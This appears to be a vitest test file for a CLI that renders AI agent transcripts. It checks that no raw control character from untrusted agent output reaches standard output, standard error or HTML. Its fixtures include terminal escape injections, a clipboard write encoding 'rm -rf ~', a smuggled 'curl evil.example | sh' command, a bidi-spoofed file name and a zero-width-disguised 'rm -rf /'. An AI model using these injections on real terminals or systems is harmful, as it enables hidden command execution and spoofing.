// Agent output is untrusted: a hostile string in any field of any line must
// reach no terminal as control, through any output mode or any message on
// standard error. Each mode runs over a stream that carries the corpus in
// every field the CLI can print, and every byte written is scanned.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CliStream } from './run-cli.js';
import { runCli } from './run-cli.js';

const HOSTILE = [
  '\x1b[2J\x1b[H',
  '\x1b]52;c;cm0gLXJmIH4=\x07',
  '\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\',
  '\x1b]0;pwned\x07',
  '\x1bP1$r0m\x1b\\',
  '\x1b_apc\x1b\\',
  '\x9b2J',
  '\x9d0;title\x9c',
  '\x90dcs\x9c',
  'npm test\x9d; curl evil.example | sh\x07',
  'invoice.\u202efdp.exe',
  '\u2066a\u2067b\u2068c\u2069',
  '\u200e\u200f\u061c',
  'r\u200bm -\u200drf \u200c/',
  '\ufeffbom \u2060wj',
  'line\u2028sep\u2029',
  '\x00\x07\x08\x0b\x0c\x7f',
  'safe\rEVIL',
  '\x85next',
];
const ALL = HOSTILE.join(' | ');

/** A character a terminal would act on: every control but TAB and LF, C1, bidi, zero-width, separators. */
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;

const session = 'ses-' + HOSTILE[0];
const line = (value: unknown) => JSON.stringify(value);
const STREAM = [
  line({ type: 'system', subtype: 'init', cwd: ALL, session_id: session, model: ALL, tools: [] }),
  line({ type: 'assistant', message: { id: 'm1', model: ALL, content: [{ type: 'text', text: ALL }] }, parent_tool_use_id: null, session_id: session }),
  line({ type: 'assistant', message: { id: 'm2', content: [{ type: 'tool_use', id: 't1', name: 'Bash', input: { command: ALL, description: ALL } }] }, parent_tool_use_id: null }),
  line({ type: 'user', message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: ALL, is_error: true }] }, parent_tool_use_id: null }),
  line({ type: 'assistant', message: { id: 'm3', content: [{ type: 'tool_use', id: 't2', name: ALL, input: { file_path: ALL, content: ALL } }] }, parent_tool_use_id: null }),
  line({ type: 'assistant', message: { id: 'm4', content: [{ type: 'tool_use', id: 't3', name: 'Write', input: { file_path: `/w/${ALL}`, content: ALL } }] }, parent_tool_use_id: null }),
  line({ type: 'user', message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't3', content: ALL }] }, parent_tool_use_id: null }),
  line({ type: `x-${ALL}` }),
  // Raw, not JSON: without its NUL, which would make the whole stream binary.
  `not json ${ALL.replace(/\x00/g, '')}`,
  line({ type: 'system', subtype: 'api_retry', error: ALL, attempt: 1 }),
  line({ type: 'result', subtype: 'error_during_execution', is_error: true, duration_ms: 5, num_turns: 1, result: ALL, errors: [ALL], session_id: session }),
].join('\n');

class Capture implements CliStream {
  text = '';
  isTTY = false;
  write(chunk: string | Uint8Array): boolean {
    this.text += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('latin1');
    return true;
  }
  once(): this {
    return this;
  }
}

async function* bytes(text: string): AsyncGenerator<Uint8Array> {
  yield new TextEncoder().encode(text);
}

const dir = mkdtempSync(join(tmpdir(), 'xview-hostile-'));
// A file name is content too: it is quoted in diagnostics and messages.
const file = join(dir, `run ${HOSTILE.slice(0, 12).join('').replace(/[\x00/]/g, '')}.jsonl`);
writeFileSync(file, STREAM);

async function scan(argv: string[], stdin = '') {
  const stdout = new Capture();
  const stderr = new Capture();
  const code = await runCli(argv, { stdin: bytes(stdin), stdout, stderr, env: {} });
  return { code, stdout: stdout.text, stderr: stderr.text };
}

/** The first raw character in a text, with what surrounds it, for a readable failure. */
function firstRaw(text: string): string | undefined {
  const at = text.search(RAW);
  return at < 0 ? undefined : JSON.stringify(text.slice(Math.max(0, at - 30), at + 10));
}

describe('no raw control byte reaches standard output or standard error', () => {
  it.each([
    ['default', [file]],
    ['verbose', ['--verbose', '--show-content', file]],
    ['summary', ['--summary', file]],
    ['summary --json', ['--summary', '--json', file]],
    ['events', ['--events', file]],
    ['strict', ['--strict', file]],
    ['strict verbose', ['--strict', '--verbose', file]],
    ['html to standard output', ['--html', '-', file]],
    ['standard input, detected', []],
    ['an unknown format', ['-'], `${ALL}\n${ALL}\n`],
    ['an unknown provider', ['--provider', ALL, file]],
    ['an unknown option', [`--${ALL}`]],
    ['a missing file', [join(dir, `missing ${ALL.replace(/[\x00/]/g, '')}`)]],
    ['a bad --max-line-mib', ['--max-line-mib', ALL]],
    ['an --html target in a missing directory', ['--html', join(dir, `no ${ALL.replace(/[\x00/]/g, '')}`, 'x.html'), file]],
  ])('%s', async (_mode, argv, stdin = STREAM) => {
    const result = await scan(argv, stdin);
    expect(firstRaw(result.stdout), 'stdout').toBeUndefined();
    expect(firstRaw(result.stderr), 'stderr').toBeUndefined();
    expect(result.stdout + result.stderr).not.toBe('');
    // The modes that render must have rendered, not stopped at an error.
    if (argv.includes(file) && !argv.includes('--provider') && !argv.some((a) => a.startsWith('--html') && argv[argv.indexOf(a) + 1] !== '-')) {
      expect(result.stdout).not.toBe('');
    }
  });

  it('shows the hidden part of a command in --verbose', async () => {
    const result = await scan(['--verbose', file]);
    expect(result.stdout).toContain('npm test\\x9d; curl evil.example | sh\\x07');
    // Default mode says the outcome on standard error, the provider's message made visible too.
    expect((await scan([file])).stderr).toMatch(/^xview: the run failed \(.*\): \\x1b\[2J\\x1b\[H \| /m);
  });

  it('--html file: the page holds no raw control character either', async () => {
    const page = join(dir, 'page.html');
    const result = await scan(['--html', page, file]);
    expect(firstRaw(result.stderr)).toBeUndefined();
    const html = readFileSync(page, 'utf8');
    expect(firstRaw(html)).toBeUndefined();
    expect(html).toContain('invoice.\\u202efdp.exe');
  });
});
